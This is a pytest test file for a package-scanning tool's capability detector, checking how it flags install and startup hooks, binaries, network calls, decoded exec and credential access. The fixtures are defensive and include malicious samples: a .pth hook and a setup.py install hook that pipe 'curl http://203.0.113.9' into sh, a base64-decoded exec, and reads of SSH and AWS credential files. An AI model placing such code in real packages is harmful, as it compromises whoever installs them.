"""What `capabilities` reads out of a tree: hooks, binaries, network, processes, exec, credentials."""

from __future__ import annotations

from pathlib import Path

import pytest
from deps_support import make_sdist, make_wheel

from chainproof.deps.capabilities import (
    Capability,
    Kind,
    When,
    binary_format,
    capabilities,
    key_path,
)
from chainproof.deps.files import TargetKind
from chainproof.deps.model import Severity
from chainproof.deps.targets.archive import open_archive

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60


def caps_of(tmp_path: Path, files: dict[str, str | bytes]) -> list[Capability]:
    return capabilities(open_archive(make_wheel(tmp_path, "pkg", "1.0", files)))


def find(caps: list[Capability], kind: Kind, detail: str) -> Capability:
    matches = [c for c in caps if c.kind is kind and c.detail == detail]
    assert matches, [(c.kind, c.detail) for c in caps]
    return matches[0]


@pytest.mark.parametrize(
    ("path", "kind", "root", "expected"),
    [
        ("pkg/a.py", TargetKind.WHEEL, "", "pkg/a.py"),
        ("pkg-1.0.dist-info/RECORD", TargetKind.WHEEL, "", "<dist-info>/RECORD"),
        ("pkg-1.0.data/purelib/pkg/a.py", TargetKind.WHEEL, "", "pkg/a.py"),
        ("pkg-1.0.data/scripts/tool", TargetKind.WHEEL, "", "<data>/scripts/tool"),
        ("pkg/_x.cpython-311-x86_64-linux-gnu.so", TargetKind.WHEEL, "", "pkg/_x.<abi>.so"),
        ("pkg/_x.cp311-win_amd64.pyd", TargetKind.WHEEL, "", "pkg/_x.<abi>.pyd"),
        ("pkg.libs/libgfortran-040039e1.so.5.0.0", TargetKind.WHEEL, "", "pkg.libs/libgfortran.so.5.0.0"),
        ("pkg-1.0/src/pkg/a.py", TargetKind.SDIST, "pkg-1.0", "pkg/a.py"),
        ("pkg-1.0/setup.py", TargetKind.SDIST, "pkg-1.0", "setup.py"),
        ("pkg-1.0/pkg.egg-info/PKG-INFO", TargetKind.SDIST, "pkg-1.0", "<egg-info>/PKG-INFO"),
    ],
)
def test_key_paths_drop_versions_and_build_hashes(
    path: str, kind: TargetKind, root: str, expected: str
) -> None:
    assert key_path(path, kind, root) == expected


def test_binary_formats_are_told_by_magic_bytes() -> None:
    assert binary_format(ELF) == "ELF"
    assert binary_format(b"\xcf\xfa\xed\xfe" + b"\0" * 12) == "Mach-O"
    pe = bytearray(b"MZ" + b"\0" * 0x7E)
    pe[0x3C:0x40] = (0x40).to_bytes(4, "little")
    pe[0x40:0x44] = b"PE\0\0"
    assert binary_format(bytes(pe)) == "PE"
    # "MZ" alone is two letters of text, not a PE file.
    assert binary_format(b"MZ is where the story starts, and then it goes on for a while......") is None


def test_import_time_process_and_network_are_told_from_calls_in_functions(tmp_path: Path) -> None:
    code = (
        "import subprocess, urllib.request\n"
        "subprocess.Popen(['curl', 'http://203.0.113.9/x'])\n"
        "def later():\n"
        "    subprocess.run(['git', 'status'])\n"
        "    return urllib.request.urlopen('https://example.org/v')\n"
    )
    caps = caps_of(tmp_path, {"pkg/__init__.py": code})
    popen = find(caps, Kind.PROCESS, "subprocess.Popen")
    assert (popen.when, popen.line, popen.strong) == (When.IMPORT, 2, True)
    run = find(caps, Kind.PROCESS, "subprocess.run")
    assert (run.when, run.line, run.strong) == (When.CALL, 4, False)
    fetch = find(caps, Kind.NETWORK, "contacts example.org")
    assert fetch.when is When.CALL
    imported = find(caps, Kind.NETWORK, "import urllib.request")
    assert imported.weak
    assert imported.when is When.IMPORT
    assert all(c.key_path == "pkg/__init__.py" and c.module == "pkg" for c in caps)


def test_decoded_exec_and_credentials_are_capabilities(tmp_path: Path) -> None:
    code = (
        "import base64, os\n"
        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"
        "KEY = os.path.expanduser('~/.aws/credentials')\n"
        "def grab():\n"
        "    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    )
    caps = caps_of(tmp_path, {"pkg/__init__.py": code})
    exec_cap = find(caps, Kind.EXEC, "exec of decoded data via exec")
    assert exec_cap.when is When.IMPORT
    assert exec_cap.strong
    # The payload is decoded (never run) and what it does counts too.
    assert find(caps, Kind.PROCESS, "os.system").when is When.IMPORT
    assert find(caps, Kind.CREDENTIALS, "names aws credentials").weak
    assert find(caps, Kind.CREDENTIALS, "reads a credential file").when is When.CALL


def test_startup_hooks_are_graded_by_what_their_code_does(tmp_path: Path) -> None:
    caps = caps_of(
        tmp_path,
        {
            "evil.pth": "import os; os.system('curl http://203.0.113.9 | sh')\n",
            "paths.pth": "extra_dir\n",
            "distutils-precedence.pth": (
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
                "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
            ),
            "pkg/__init__.py": "",
        },
    )
    hooks = {c.key_path: c for c in caps if c.kind is Kind.STARTUP_HOOK}
    assert hooks["evil.pth"].grade is Severity.CRITICAL
    assert hooks["paths.pth"].weak
    assert hooks["paths.pth"].grade is None
    assert hooks["distutils-precedence.pth"].grade is Severity.MEDIUM
    assert find(caps, Kind.PROCESS, "os.system").when is When.STARTUP


def test_a_module_a_pth_imports_runs_at_interpreter_start(tmp_path: Path) -> None:
    caps = caps_of(
        tmp_path,
        {"boot.pth": "import pkg\n", "pkg/__init__.py": "import os\nos.system('id')\n"},
    )
    assert find(caps, Kind.PROCESS, "os.system").when is When.STARTUP
    assert find(caps, Kind.STARTUP_HOOK, "executes code at interpreter start").grade is Severity.HIGH


def test_binaries_and_sourceless_bytecode(tmp_path: Path) -> None:
    caps = caps_of(
        tmp_path,
        {
            "pkg/__init__.py": "",
            "pkg/_speed.cpython-311-x86_64-linux-gnu.so": ELF,
            "pkg/assets/miner": ELF,
            "pkg/fake.py": ELF,
            "pkg/hidden.pyc": b"\x00" * 20,
            "pkg/__pycache__/__init__.cpython-311.pyc": b"\x00" * 20,
            "pkg/README.md": "MZ: not a binary",
        },
    )
    binaries = {c.key_path: c for c in caps if c.kind is Kind.BINARY}
    assert set(binaries) == {"pkg/_speed.<abi>.so", "pkg/assets/miner", "pkg/fake.py", "pkg/hidden.pyc"}
    assert binaries["pkg/fake.py"].strong
    assert "text or data file name" in binaries["pkg/fake.py"].note
    assert binaries["pkg/hidden.pyc"].detail == "bytecode without source"
    assert not binaries["pkg/assets/miner"].strong


def test_setup_py_overrides_and_install_time_code_in_an_sdist(tmp_path: Path) -> None:
    setup = (
        "import subprocess\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        subprocess.call(['sh', '-c', 'curl http://203.0.113.9 | sh'])\n"
        "subprocess.check_call(['git', 'describe'])\n"
        "setup(name='pkg', cmdclass={'install': Post})\n"
    )
    sdist = make_sdist(tmp_path, "pkg", "1.0", {"setup.py": setup, "pkg/__init__.py": ""})
    caps = capabilities(open_archive(sdist))
    hook = find(caps, Kind.INSTALL_HOOK, "cmdclass install")
    assert hook.strong
    assert hook.key_path == "setup.py"
    assert hook.path == "pkg-1.0/setup.py"
    assert find(caps, Kind.PROCESS, "subprocess.check_call").when is When.INSTALL
    assert find(caps, Kind.PROCESS, "subprocess.call").when is When.CALL


def test_tests_count_as_called_and_metadata_is_not_read(tmp_path: Path) -> None:
    caps = caps_of(
        tmp_path,
        {
            "pkg/__init__.py": "",
            "tests/test_x.py": "import os\nos.system('id')\n",
            "tests/broken.py": "def (",
        },
    )
    assert [(c.kind, c.when) for c in caps] == [(Kind.PROCESS, When.CALL)]


def test_unparseable_module_is_reported_as_unanalysed(tmp_path: Path) -> None:
    caps = caps_of(tmp_path, {"pkg/__init__.py": "exec(\n"})
    assert [(c.kind, c.detail) for c in caps] == [(Kind.UNANALYSED, "does not parse")]


def test_plain_modules_have_no_capabilities(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "from pkg.core import add\n",
        "pkg/core.py": "def add(a, b):\n    return a + b\n",
    }
    assert caps_of(tmp_path, files) == []
